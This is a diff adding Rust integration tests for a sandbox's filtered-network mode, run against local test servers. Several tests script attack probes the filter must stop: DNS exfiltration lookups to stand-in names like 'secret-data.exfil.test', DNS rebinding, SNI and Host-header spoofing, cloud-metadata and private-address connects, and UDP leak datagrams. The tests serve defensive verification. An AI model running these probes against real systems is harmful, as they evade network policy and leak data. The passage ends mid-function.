@@ -1,0 +1,1071 @@
+//! `--net filtered` with real traffic: local servers on the host (tests/net/servers.py:
+//! HTTP, TLS with a test CA, TCP echo, UDP echo, a DNS stub), reached from jails through
+//! `--allow-net` and `--add-host`, as root and rootless. The happy paths (curl, Python,
+//! Node, pip), then every attack the policy must stop, each with the exact errno or exit
+//! status the program sees, and a control showing the test would notice the attack
+//! succeeding (the same probe with `--net host`).
+
+use crate::common;
+
+use common::limits::{Done, jail_with_verdict};
+use common::net::{Servers, require_tun};
+use common::*;
+use serde_json::Value;
+use std::net::{IpAddr, Ipv4Addr, TcpListener};
+use std::path::Path;
+use std::process::Output;
+use std::time::Duration;
+
+both_modes!(
+    curl_reaches_an_allowed_name_over_http_and_tls,
+    python_node_and_pip_work_unchanged,
+    git_clones_over_https,
+    an_allowed_ip_rule_reaches_a_host_address,
+    an_ipv6_rule_reaches_a_host_address,
+    unlisted_names_get_nxdomain_and_no_query_leaves_the_host,
+    an_allowed_name_resolving_to_loopback_is_refused,
+    an_allowed_name_on_another_port_is_refused,
+    direct_addresses_are_refused,
+    a_tls_connection_naming_another_host_is_cut,
+    an_http_request_naming_another_host_is_cut,
+    udp_other_than_dns_is_dropped,
+    a_flood_of_connections_meets_the_cap,
+    the_byte_cap_cuts_a_download,
+    a_program_ending_mid_transfer_leaves_nothing,
+    the_jails_own_loopback_works,
+    a_prepared_root_resolves_the_allowed_names,
+    refusals_are_summed_up_in_one_line_on_stderr,
+    a_loopback_rule_is_explained_and_a_pinned_name_reaches_the_host,
+);
+
+/// The name the tests give the servers (pinned to 127.0.0.1 by `--add-host`).
+const WEB: &str = "web.test";
+
+/// `--allow-net web.test:PORT --add-host web.test:127.0.0.1` for each port.
+fn web_rules(ports: &[u16]) -> Vec<String> {
+    let mut args = vec!["--add-host".to_string(), format!("{WEB}:127.0.0.1")];
+    for port in ports {
+        args.push("--allow-net".into());
+        args.push(format!("{WEB}:{port}"));
+    }
+    args
+}
+
+fn strs(owned: &[String]) -> Vec<&str> {
+    owned.iter().map(String::as_str).collect()
+}
+
+/// Runs PROGRAM in a jail with `args`, returning the run and its verdict.
+fn filtered(mode: Mode, args: &[String], program: &[&str]) -> (Done, Value) {
+    jail_with_verdict(mode, &strs(args), program)
+}
+
+/// The record's entries for destination `name` (or address) and `port`.
+fn destinations<'a>(verdict: &'a Value, name: &str, port: u16) -> Vec<&'a Value> {
+    let network = &verdict["network"];
+    let connections = network["connections"]
+        .as_array()
+        .unwrap_or_else(|| panic!("no network record: {verdict}"));
+    connections
+        .iter()
+        .filter(|entry| {
+            entry["port"] == port && (entry["name"] == name || entry["address"] == name)
+        })
+        .collect()
+}
+
+fn allowed_bytes(verdict: &Value, name: &str, port: u16) -> (u64, u64) {
+    let entries = destinations(verdict, name, port);
+    let allowed: Vec<_> = entries.iter().filter(|e| e["allowed"] == true).collect();
+    assert!(
+        !allowed.is_empty(),
+        "no allowed connection to {name}:{port}: {verdict}"
+    );
+    let sum = |key: &str| allowed.iter().map(|e| e[key].as_u64().unwrap()).sum();
+    (sum("bytes_sent"), sum("bytes_received"))
+}
+
+/// The reason the record gives for refusing `name:port`.
+fn refusal(verdict: &Value, name: &str, port: u16) -> String {
+    let entries = destinations(verdict, name, port);
+    let refused = entries
+        .iter()
+        .find(|entry| entry["allowed"] == false)
+        .unwrap_or_else(|| panic!("no refused connection to {name}:{port}: {verdict}"));
+    refused["reason"].as_str().unwrap_or_default().to_string()
+}
+
+fn python() -> String {
+    interpreter("python3")
+}
+
+/// Python in the jail: connects to each `HOST PORT` line of its argv and prints
+/// `HOST PORT ok` or `HOST PORT ERRNO-NAME`.
+const CONNECT_PROBE: &str = r#"
+import errno, socket, sys
+for target in sys.argv[1:]:
+    host, port = target.rsplit(" ", 1)
+    try:
+        s = socket.create_connection((host, int(port)), timeout=5)
+        s.close()
+        print(target, "ok")
+    except OSError as e:
+        print(target, errno.errorcode.get(e.errno, str(e)))
+"#;
+
+fn connect_probe(targets: &[String]) -> Vec<String> {
+    let mut argv = vec![python(), "-c".into(), CONNECT_PROBE.into()];
+    argv.extend(targets.iter().cloned());
+    argv
+}
+
+/// An address of this host that is not loopback (the tests' "private address").
+fn host_address() -> Ipv4Addr {
+    let found = nix::ifaddrs::getifaddrs()
+        .expect("getifaddrs")
+        .filter_map(|interface| interface.address?.as_sockaddr_in().map(|a| a.ip()))
+        .find(|ip| !ip.is_loopback());
+    found.expect("this host has no IPv4 address besides loopback")
+}
+
+/// A TCP listener on every address of the host that counts the connections it accepts.
+struct Listener {
+    port: u16,
+    accepted: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl Listener {
+    fn start() -> Listener {
+        // Dual-stack: IPv4 connections arrive as IPv4-mapped ones.
+        let listener = TcpListener::bind("[::]:0").expect("bind");
+        let port = listener.local_addr().unwrap().port();
+        let accepted = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counter = accepted.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        Listener { port, accepted }
+    }
+
+    fn accepted(&self) -> usize {
+        self.accepted.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Happy paths
+
+fn curl_reaches_an_allowed_name_over_http_and_tls(mode: Mode) {
+    if !require_tun(mode) || !require_program("curl", "apt install curl") {
+        return;
+    }
+    let servers = Servers::start();
+    let mut args = web_rules(&[servers.http, servers.tls]);
+    args.extend([
+        "--ro-bind".into(),
+        format!("{}:/ca", servers.state_dir().display()),
+    ]);
+    let script = format!(
+        "curl -sS http://{WEB}:{http}/hello && curl -sS --cacert /ca/ca.pem https://{WEB}:{tls}/host",
+        http = servers.http,
+        tls = servers.tls
+    );
+    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
+    let out = assert_success(&done.output);
+    assert_eq!(
+        out,
+        format!("hello\n{WEB}:{}", servers.tls),
+        "{}",
+        describe(&done.output)
+    );
+    assert_eq!(verdict["protections"]["net"], "filtered", "{verdict}");
+    let (sent, received) = allowed_bytes(&verdict, WEB, servers.http);
+    assert!(sent > 0 && received > 0, "{verdict}");
+    let (sent, received) = allowed_bytes(&verdict, WEB, servers.tls);
+    assert!(
+        sent > 500 && received > 500,
+        "TLS handshakes are bigger: {verdict}"
+    );
+    let network = &verdict["network"];
+    assert_eq!(network["rules"].as_array().unwrap().len(), 2, "{verdict}");
+    assert!(network["bytes_received"].as_u64().unwrap() > 0, "{verdict}");
+    let log = servers.log().join("\n");
+    assert!(
+        log.contains(r#""sni": "web.test""#) || log.contains(r#""sni":"web.test""#),
+        "{log}"
+    );
+}
+
+fn python_node_and_pip_work_unchanged(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let mut args = web_rules(&[servers.http, servers.echo, servers.tls]);
+    args.extend([
+        "--ro-bind".into(),
+        format!("{}:/ca", servers.state_dir().display()),
+    ]);
+    let python_code = format!(
+        "import socket, urllib.request\n\
+         s = socket.create_connection(('{WEB}', {echo}))\n\
+         s.sendall(b'ping'); print(s.recv(4).decode())\n\
+         print(urllib.request.urlopen('http://{WEB}:{http}/hello').read().decode(), end='')",
+        echo = servers.echo,
+        http = servers.http
+    );
+    let node_code = format!(
+        "fetch('http://{WEB}:{}/hello').then(r => r.text()).then(t => process.stdout.write(t))",
+        servers.http
+    );
+    let script = format!(
+        "{py} -c \"$PY\" && node -e \"$NODE\" && {py} -m pip download --quiet --no-cache-dir \
+         --disable-pip-version-check --cert /ca/ca.pem --index-url https://{WEB}:{tls}/simple/ \
+         -d /tmp/out brigdemo && ls /tmp/out",
+        py = python(),
+        tls = servers.tls
+    );
+    let env_py = format!("PY={python_code}");
+    let env_node = format!("NODE={node_code}");
+    let mut all = args.clone();
+    all.extend(["--env".into(), env_py, "--env".into(), env_node]);
+    let (done, verdict) = filtered(mode, &all, &["sh", "-c", &script]);
+    let out = assert_success(&done.output);
+    assert_eq!(
+        out.lines().collect::<Vec<_>>(),
+        ["ping", "hello", "hello", "brigdemo-1.0-py3-none-any.whl"],
+        "{}",
+        describe(&done.output)
+    );
+    for port in [servers.http, servers.echo, servers.tls] {
+        allowed_bytes(&verdict, WEB, port);
+    }
+}
+
+fn git_clones_over_https(mode: Mode) {
+    if !require_tun(mode)
+        || !require(
+            "git in /usr/bin (the jails see the host's /usr)",
+            "apt install git",
+            Path::new("/usr/bin/git").exists(),
+        )
+    {
+        return;
+    }
+    let servers = Servers::start();
+    servers.git_repository("demo", &[("hello.txt", "hello from git\n")]);
+    let mut args = web_rules(&[servers.tls]);
+    args.extend([
+        "--ro-bind".into(),
+        format!("{}:/ca", servers.state_dir().display()),
+        "--env".into(),
+        "GIT_SSL_CAINFO=/ca/ca.pem".into(),
+    ]);
+    let script = format!(
+        "/usr/bin/git clone -q https://{WEB}:{}/git/demo.git /tmp/demo && cat /tmp/demo/hello.txt",
+        servers.tls
+    );
+    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
+    assert_eq!(assert_success(&done.output), "hello from git\n");
+    allowed_bytes(&verdict, WEB, servers.tls);
+}
+
+fn an_allowed_ip_rule_reaches_a_host_address(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let listener = Listener::start();
+    let host = IpAddr::V4(host_address());
+    reach_by_ip_rule(mode, &listener, host, &format!("{host}:{}", listener.port));
+}
+
+/// The same over IPv6: the jail's side of the TUN device has an IPv6 address and route.
+fn an_ipv6_rule_reaches_a_host_address(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let global = nix::ifaddrs::getifaddrs()
+        .expect("getifaddrs")
+        .filter_map(|interface| interface.address?.as_sockaddr_in6().map(|a| a.ip()))
+        .find(|ip| !ip.is_loopback() && (ip.segments()[0] & 0xffc0) != 0xfe80);
+    let how = "give the host an IPv6 address that is not link-local, e.g. `ip -6 addr add fd00::2/64 dev eth0`";
+    let Some(host) = global else {
+        require("a non-link-local IPv6 address on this host", how, false);
+        return;
+    };
+    let listener = Listener::start();
+    reach_by_ip_rule(
+        mode,
+        &listener,
+        IpAddr::V6(host),
+        &format!("[{host}]:{}", listener.port),
+    );
+}
+
+fn reach_by_ip_rule(mode: Mode, listener: &Listener, host: IpAddr, rule: &str) {
+    let target = format!("{host} {}", listener.port);
+    let args = vec!["--allow-net".to_string(), rule.to_string()];
+    let (done, verdict) = filtered(
+        mode,
+        &args,
+        &strs_of(&connect_probe(std::slice::from_ref(&target))),
+    );
+    assert_eq!(assert_success(&done.output).trim(), format!("{target} ok"));
+    assert!(listener.accepted() >= 1);
+    allowed_bytes(&verdict, &host.to_string(), listener.port);
+}
+
+fn strs_of(owned: &[String]) -> Vec<&str> {
+    strs(owned)
+}
+
+// ---------------------------------------------------------------------------------------
+// Attacks
+
+/// The address of a DNS stub the test controls, one per test and mode (tests run in
+/// parallel, and the stub must listen on port 53: resolv.conf has no port).
+fn stub_address(test: u8, mode: Mode) -> Ipv4Addr {
+    Ipv4Addr::new(127, 53, test, if mode == Mode::Root { 1 } else { 2 })
+}
+
+/// Runs brig with `args` in a mount namespace of its own where /etc/resolv.conf names
+/// `stub`, so that brig's host-side lookups go to the test's DNS stub.
+fn with_host_resolver(mode: Mode, stub: Ipv4Addr, args: &[String]) -> (Output, Value) {
+    require_program("unshare", "apt install util-linux");
+    let dir = TempDir::new("resolv").writable_by_all();
+    let resolv_conf = dir.file("resolv.conf", &format!("nameserver {stub}\n"));
+    let verdict_path = dir.path().join("verdict.json");
+    let mut brig_args = vec![
+        "run",
+        "--quiet-limits",
+        "--report",
+        verdict_path.to_str().unwrap(),
+    ];
+    brig_args.extend(strs(args));
+    let mut argv: Vec<std::ffi::OsString> = vec![
+        "unshare".into(),
+        "--mount".into(),
+        "--propagation".into(),
+        "private".into(),
+        "sh".into(),
+        "-c".into(),
+        "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"".into(),
+        resolv_conf.into(),
+    ];
+    argv.extend(argv_as(mode, brig_for(mode), &brig_args));
+    let output = output_of(command_from(&argv));
+    let verdict = common::limits::read_verdict(&verdict_path, &output);
+    (output, verdict)
+}
+
+/// Names off the list get NXDOMAIN from brig itself: the host's resolver (a stub the test
+/// controls) never hears of them, while an allowed name that is not pinned is resolved
+/// through it (the control: the stub is the resolver brig uses).
+fn unlisted_names_get_nxdomain_and_no_query_leaves_the_host(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let stub = stub_address(1, mode);
+    let servers = Servers::start_with_dns(IpAddr::V4(stub), 53);
+    let http = servers.http;
+    let probe = format!(
+        "import socket\n\
+         for name in ['secret-data.exfil.test', 'exfil.test', 'allowed.test.exfil.test']:\n\
+         \x20   try: print(name, socket.getaddrinfo(name, 80)[0][4])\n\
+         \x20   except socket.gaierror as e: print(name, e.args[0] == socket.EAI_NONAME)\n\
+         import urllib.request\n\
+         print(urllib.request.urlopen('http://allowed.test:{http}/hello').read().decode(), end='')"
+    );
+    let args: Vec<String> = vec![
+        "--allow-net".into(),
+        format!("allowed.test:{http}"),
+        // The stub answers 127.0.0.1, which only an IP rule lets brig connect to.
+        "--allow-net".into(),
+        format!("127.0.0.1:{http}"),
+        "--".into(),
+        python(),
+        "-c".into(),
+        probe,
+    ];
+    let (output, verdict) = with_host_resolver(mode, stub, &args);
+    assert_eq!(
+        assert_success(&output).lines().collect::<Vec<_>>(),
+        [
+            "secret-data.exfil.test True",
+            "exfil.test True",
+            "allowed.test.exfil.test True",
+            "hello"
+        ],
+        "{}",
+        describe(&output)
+    );
+    let asked = servers.dns_queries();
+    assert!(
+        asked.iter().any(|name| name == "allowed.test"),
+        "the stub is the host's resolver: {asked:?}"
+    );
+    assert!(
+        asked.iter().all(|name| !name.contains("exfil")),
+        "a name off the list reached the host's resolver: {asked:?}"
+    );
+    let lookups = verdict["network"]["lookups"].as_array().unwrap();
+    let secret = lookups
+        .iter()
+        .find(|lookup| lookup["name"] == "secret-data.exfil.test")
+        .unwrap_or_else(|| panic!("the lookup is on the record: {verdict}"));
+    assert!(secret["answer"].is_null(), "{verdict}");
+}
+
+/// DNS rebinding: an allowed name whose host-side answer is 127.0.0.1 is refused, because
+/// brig checks the address it would connect to, not only the name.
+fn an_allowed_name_resolving_to_loopback_is_refused(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let stub = stub_address(2, mode);
+    let servers = Servers::start_with_dns(IpAddr::V4(stub), 53);
+    let target = format!("rebind.test {}", servers.http);
+    let mut args = vec![
+        "--allow-net".to_string(),
+        format!("rebind.test:{}", servers.http),
+        "--".into(),
+    ];
+    args.extend(connect_probe(std::slice::from_ref(&target)));
+    let (output, verdict) = with_host_resolver(mode, stub, &args);
+    assert_eq!(
+        stdout(&output).trim(),
+        format!("{target} ECONNREFUSED"),
+        "{}",
+        describe(&output)
+    );
+    assert!(
+        servers
+            .dns_queries()
+            .iter()
+            .any(|name| name == "rebind.test")
+    );
+    let reason = refusal(&verdict, "rebind.test", servers.http);
+    assert!(reason.contains("loopback"), "{reason}");
+    let requests: Vec<String> = servers
+        .log()
+        .into_iter()
+        .filter(|line| !line.contains("\"dns\""))
+        .collect();
+    assert!(requests.is_empty(), "the server was reached: {requests:?}");
+}
+
+/// A run that had refusals ends with one `brig: network:` line naming each refused
+/// destination with its reason and the names that were not resolved; a run without any
+/// prints none.
+fn refusals_are_summed_up_in_one_line_on_stderr(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let args = web_rules(&[servers.http]);
+    let probe = connect_probe(&[
+        format!("{WEB} {}", servers.echo),
+        "10.1.2.3 80".into(),
+        format!("{WEB} {}", servers.http),
+        "unlisted.test 80".into(),
+    ]);
+    let (done, _) = filtered(mode, &args, &strs_of(&probe));
+    let out = assert_success(&done.output);
+    assert!(
+        out.contains(&format!("{WEB} {} ok\n", servers.http)),
+        "{out}"
+    );
+    let errors = stderr(&done.output);
+    let lines: Vec<&str> = errors
+        .lines()
+        .filter(|line| line.starts_with("brig: network:"))
+        .collect::<Vec<_>>();
+    assert_eq!(
+        lines,
+        [format!(
+            "brig: network: 2 connections refused or cut: 10.1.2.3:80 (private (RFC 1918) address, not on the list), {WEB}:{echo} (port {echo} is not allowed for {WEB}); 1 name not on the list was not resolved: unlisted.test; to allow a destination add `--allow-net NAME:PORT` (the report's `network` has every attempt)",
+            echo = servers.echo
+        )],
+        "{}",
+        describe(&done.output)
+    );
+    // Only allowed connections: no line.
+    let probe = connect_probe(&[format!("{WEB} {}", servers.http)]);
+    let (done, _) = filtered(mode, &args, &strs_of(&probe));
+    assert_success(&done.output);
+    assert!(
+        !stderr(&done.output).contains("brig: network"),
+        "{}",
+        describe(&done.output)
+    );
+}
+
+/// `--allow-net 127.0.0.1:PORT` or `localhost:PORT` names the jail's own loopback: the
+/// connection stays in the jail (ECONNREFUSED, the host's listener untouched), and `brig
+/// check` and the run say so in one warning with the way to the host, which works.
+fn a_loopback_rule_is_explained_and_a_pinned_name_reaches_the_host(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let listener = Listener::start();
+    let port = listener.port;
+    for host in ["127.0.0.1", "localhost"] {
+        let rule = format!("{host}:{port}");
+        let warning = format!(
+            "--allow-net {rule}: in the jail this is the jail's own loopback (which needs no rule), not the host's, so the rule lets nothing through; to reach a server on the host's loopback, pin a name to it: `--add-host host.test:127.0.0.1 --allow-net host.test:{port}`"
+        );
+        let checked = run(mode, &["check", "--allow-net", &rule, "--", "true"]);
+        assert!(
+            assert_success(&checked).contains(&warning),
+            "{}",
+            describe(&checked)
+        );
+        let args = vec!["--allow-net".to_string(), rule.clone()];
+        let target = format!("{host} {port}");
+        let (done, _) = filtered(
+            mode,
+            &args,
+            &strs_of(&connect_probe(std::slice::from_ref(&target))),
+        );
+        assert_eq!(
+            assert_success(&done.output).trim(),
+            format!("{target} ECONNREFUSED")
+        );
+        let errors = stderr(&done.output);
+        let warned: Vec<&str> = errors
+            .lines()
+            .filter(|line| line.starts_with("brig: warning:"))
+            .collect();
+        assert_eq!(
+            warned,
+            [format!("brig: warning: {warning}")],
+            "{}",
+            describe(&done.output)
+        );
+    }
+    assert_eq!(listener.accepted(), 0);
+    // The way the warning gives reaches the host's loopback, without a warning.
+    let args: Vec<String> = [
+        "--add-host",
+        "host.test:127.0.0.1",
+        "--allow-net",
+        &format!("host.test:{port}"),
+    ]
+    .map(String::from)
+    .into();
+    let target = format!("host.test {port}");
+    let (done, _) = filtered(
+        mode,
+        &args,
+        &strs_of(&connect_probe(std::slice::from_ref(&target))),
+    );
+    assert_eq!(assert_success(&done.output).trim(), format!("{target} ok"));
+    assert!(
+        !stderr(&done.output).contains("warning"),
+        "{}",
+        describe(&done.output)
+    );
+    assert_eq!(listener.accepted(), 1);
+}
+
+fn an_allowed_name_on_another_port_is_refused(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let audit = TempDir::new("audit").writable_by_all();
+    let audit_log = audit.path().join("audit.log");
+    let mut args = web_rules(&[servers.http]);
+    args.extend(["--audit-log".into(), audit_log.display().to_string()]);
+    let targets = [
+        format!("{WEB} {}", servers.echo),
+        format!("{WEB} {}", servers.http),
+    ];
+    let (done, verdict) = filtered(mode, &args, &strs_of(&connect_probe(&targets)));
+    // The audit log carries the same record.
+    let line = std::fs::read_to_string(&audit_log).expect("the audit log");
+    let logged: Value = serde_json::from_str(line.trim()).expect("one JSON line");
+    assert_eq!(logged["verdict"]["network"], verdict["network"], "{line}");
+    assert_eq!(
+        assert_success(&done.output).lines().collect::<Vec<_>>(),
+        [
+            format!("{} ECONNREFUSED", targets[0]),
+            format!("{} ok", targets[1])
+        ]
+    );
+    let reason = refusal(&verdict, WEB, servers.echo);
+    assert!(
+        reason.contains(&format!("port {}", servers.echo)),
+        "{reason}"
+    );
+}
+
+/// Every way of spelling "the host itself" or "the private network" ends in
+/// ECONNREFUSED: 127.x and [::1] are the jail's own loopback, the rest are refused by
+/// brig. With `--net host` the same probe reaches the host (the control).
+fn direct_addresses_are_refused(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let listener = Listener::start();
+    let host = host_address();
+    let http = servers.http;
+    let targets: Vec<String> = [
+        format!("127.0.0.1 {http}"),
+        format!("127.1 {http}"),
+        format!("::1 {http}"),
+        format!("::ffff:127.0.0.1 {http}"),
+        format!("{host} {}", listener.port),
+        "10.1.2.3 80".into(),
+        "169.254.169.254 80".into(),
+        "100.64.0.1 80".into(),
+        "198.18.0.77 80".into(),
+        "fd00::1 80".into(),
+        "fe80::1%tun0 80".into(),
+        "2001:db8::1 80".into(),
+    ]
+    .into();
+    let args = web_rules(&[http]);
+    let (done, verdict) = filtered(mode, &args, &strs_of(&connect_probe(&targets)));
+    let expected: Vec<String> = targets
+        .iter()
+        .map(|t| format!("{t} ECONNREFUSED"))
+        .collect();
+    assert_eq!(
+        stdout(&done.output).lines().collect::<Vec<_>>(),
+        expected,
+        "{}",
+        describe(&done.output)
+    );
+    assert_eq!(listener.accepted(), 0);
+    assert!(servers.log().is_empty(), "{:?}", servers.log());
+    assert!(
+        refusal(&verdict, "169.254.169.254", 80).contains("link-local"),
+        "{verdict}"
+    );
+    assert!(
+        refusal(&verdict, "10.1.2.3", 80).contains("private"),
+        "{verdict}"
+    );
+    assert!(
+        refusal(&verdict, &host.to_string(), listener.port).contains("not on the list"),
+        "{verdict}"
+    );
+
+    // The control: without the filter the same probe reaches the host's servers.
+    let control = vec!["--net".to_string(), "host".into()];
+    let (done, _) = filtered(mode, &control, &strs_of(&connect_probe(&targets[..1])));
+    assert_eq!(stdout(&done.output).trim(), format!("{} ok", targets[0]));
+}
+
+fn a_tls_connection_naming_another_host_is_cut(mode: Mode) {
+    if !require_tun(mode) || !require_program("curl", "apt install curl") {
+        return;
+    }
+    let servers = Servers::start();
+    let tls = servers.tls;
+    let mut args = web_rules(&[tls]);
+    args.extend([
+        "--ro-bind".into(),
+        format!("{}:/ca", servers.state_dir().display()),
+    ]);
+    // Connect to web.test's address, but say `other.test` in the ClientHello (the
+    // server's certificate is valid for both: only brig can stop it).
+    let script = format!(
+        "curl -sS --cacert /ca/ca.pem --connect-to other.test:{tls}:{WEB}:{tls} https://other.test:{tls}/host; echo \" exit=$?\""
+    );
+    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
+    let out = stdout(&done.output);
+    assert!(
+        !out.contains("other.test:"),
+        "the request went through: {out}"
+    );
+    assert!(
+        out.contains(" exit=35") || out.contains(" exit=56"),
+        "{}",
+        describe(&done.output)
+    );
+    let reason = refusal(&verdict, WEB, tls);
+    assert!(reason.contains("TLS SNI names other.test"), "{reason}");
+    assert!(
+        servers
+            .log()
+            .iter()
+            .all(|line| !line.contains("other.test")),
+        "{:?}",
+        servers.log()
+    );
+}
+
+fn an_http_request_naming_another_host_is_cut(mode: Mode) {
+    if !require_tun(mode) || !require_program("curl", "apt install curl") {
+        return;
+    }
+    let servers = Servers::start();
+    let http = servers.http;
+    let args = web_rules(&[http]);
+    let script = format!(
+        "curl -sS -H 'Host: other.test' http://{WEB}:{http}/host; echo \" exit=$?\"; curl -sS http://{WEB}:{http}/host"
+    );
+    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
+    let out = stdout(&done.output);
+    assert!(
+        out.contains(" exit=52") || out.contains(" exit=56"),
+        "{}",
+        describe(&done.output)
+    );
+    assert!(
+        out.ends_with(&format!("{WEB}:{http}")),
+        "the control request: {out}"
+    );
+    let reason = refusal(&verdict, WEB, http);
+    assert!(reason.contains("HTTP Host names other.test"), "{reason}");
+    let log = servers.log();
+    assert_eq!(
+        log.len(),
+        1,
+        "only the control request reaches the server: {log:?}"
+    );
+}
+
+fn udp_other_than_dns_is_dropped(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let udp = servers.udp;
+    let probe = r#"
+import socket, sys
+for target in sys.argv[1:]:
+    host, port = target.rsplit(" ", 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    try:
+        s.sendto(b"leak", (host, int(port)))
+        print(target, s.recv(16).decode())
+    except socket.timeout:
+        print(target, "timeout")
+    except OSError as e:
+        print(target, e)
+"#;
+    let host = host_address();
+    let targets = [
+        format!("{WEB} {udp}"),
+        "8.8.8.8 53".into(),
+        format!("{host} {udp}"),
+    ];
+    let args = web_rules(&[udp]);
+    let python = python();
+    let mut program = vec![python.as_str(), "-c", probe];
+    program.extend(targets.iter().map(String::as_str));
+    let (done, verdict) = filtered(mode, &args, &program);
+    let expected: Vec<String> = targets.iter().map(|t| format!("{t} timeout")).collect();
+    assert_eq!(
+        stdout(&done.output).lines().collect::<Vec<_>>(),
+        expected,
+        "{}",
+        describe(&done.output)
+    );
+    assert!(servers.log().is_empty(), "{:?}", servers.log());
+    let dropped = verdict["network"]["dropped"].as_array().unwrap();
+    assert!(
+        dropped
+            .iter()
+            .any(|d| d["protocol"] == "udp" && d["address"] == "8.8.8.8" && d["port"] == 53),
+        "{verdict}"
+    );
+
+    // The control: with the host's network the same datagram is echoed.
+    let control = vec!["--net".to_string(), "host".into()];
+    let local = format!("127.0.0.1 {udp}");
+    let (done, _) = filtered(mode, &control, &[python.as_str(), "-c", probe, &local]);
+    assert_eq!(stdout(&done.output).trim(), format!("{local} leak"));
+}
+
+/// 40 connections held open at once against `--net-connections 8`: 8 get through, the
+/// others are refused at once; once they close, brig serves a new one (it stayed
+/// responsive), and the verdict says the cap was reached.
+fn a_flood_of_connections_meets_the_cap(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let mut args = web_rules(&[servers.echo]);
+    args.extend(["--net-connections".into(), "8".into()]);
+    let flood = format!(
+        r#"
+import errno, socket
+held, refused = [], 0
+for _ in range(40):
+    try:
+        s = socket.create_connection(("{WEB}", {echo}), timeout=5)
+        s.sendall(b"x"); s.recv(1)
+        held.append(s)
+    except OSError as e:
+        assert e.errno == errno.ECONNREFUSED, e
+        refused += 1
+print(len(held), refused)
+for s in held: s.close()
+import time
+for attempt in range(50):
+    try:
+        s = socket.create_connection(("{WEB}", {echo}), timeout=5); s.sendall(b"y"); print(s.recv(1).decode()); break
+    except OSError:
+        time.sleep(0.1)
+"#,
+        echo = servers.echo
+    );
+    let (done, verdict) = filtered(mode, &args, &[&python(), "-c", &flood]);
+    assert_eq!(
+        stdout(&done.output).lines().collect::<Vec<_>>(),
+        ["8 32", "y"],
+        "{}",
+        describe(&done.output)
+    );
+    assert_eq!(verdict["status"], "net_limit", "{verdict}");
+    assert_eq!(verdict["exit_code"], 0, "{verdict}");
+    assert_eq!(
+        verdict["network"]["limit_reached"], "net-connections",
+        "{verdict}"
+    );
+    assert!(
+        refusal(&verdict, WEB, servers.echo).contains("--net-connections"),
+        "{verdict}"
+    );
+}
+
+fn the_byte_cap_cuts_a_download(mode: Mode) {
+    if !require_tun(mode) || !require_program("curl", "apt install curl") {
+        return;
+    }
+    let servers = Servers::start();
+    let mut args = web_rules(&[servers.http]);
+    args.extend(["--net-bytes".into(), "1M".into()]);
+    let script = format!(
+        "curl -sS -o /dev/null http://{WEB}:{}/bytes/20000000; echo exit=$?",
+        servers.http
+    );
+    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
+    assert_eq!(
+        stdout(&done.output).trim(),
+        "exit=56",
+        "{}",
+        describe(&done.output)
+    );
+    assert_eq!(verdict["status"], "net_limit", "{verdict}");
+    assert_eq!(
+        verdict["network"]["limit_reached"], "net-bytes",
+        "{verdict}"
+    );
+    let total = verdict["network"]["bytes_received"].as_u64().unwrap();
+    assert!(
+        (1 << 20..4 << 20).contains(&total),
+        "cut soon after 1 MiB: {total}"
+    );
+}
+
+/// The program dies in the middle of a download: brig ends, closes its side (the server
+/// sees the connection end), and leaves no process, cgroup or socket behind.
+fn a_program_ending_mid_transfer_leaves_nothing(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let servers = Servers::start();
+    let args = web_rules(&[servers.http]);
+    let reader = format!(
+        "import os, urllib.request\n\
+         r = urllib.request.urlopen('http://{WEB}:{}/bytes/4000000000')\n\
+         r.read(1 << 20)\n\
+         os.kill(os.getpid(), 9)",
+        servers.http
+    );
+    let (done, verdict) = filtered(mode, &args, &[&python(), "-c", &reader]);
+    assert_eq!(verdict["status"], "signaled", "{}", describe(&done.output));
+    let (_, received) = allowed_bytes(&verdict, WEB, servers.http);
+    assert!(received >= 1 << 20, "{verdict}");
+    // brig has exited (`jail` checked its cgroups are gone); no connection to the
+    // server is left open on the host.
+    assert!(
+        wait_until(Duration::from_secs(5), || established_to(servers.http) == 0),
+        "a connection to the server is still open"
+    );
+}
+
+/// TCP connections in state ESTABLISHED to `port` on this host.
+fn established_to(port: u16) -> usize {
+    let table = std::fs::read_to_string("/proc/net/tcp").unwrap_or_default();
+    let wanted = format!(":{port:04X}");
+    table
+        .lines()
+        .skip(1)
+        .filter(|line| {
+            let fields: Vec<&str> = line.split_whitespace().collect();
+            fields.len() > 3
+                && fields[3] == "01"
+                && (fields[1].ends_with(&wanted) || fields[2].ends_with(&wanted))
+        })
+        .count()
+}
+
+/// A program may run its own server on 127.0.0.1 and test it, in every network mode.
+fn the_jails_own_loopback_works(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let server_and_client = r#"
+import socket, threading
+server = socket.create_server(("127.0.0.1", 0))
+port = server.getsockname()[1]
+threading.Thread(target=lambda: server.accept()[0].sendall(b"local"), daemon=True).start()
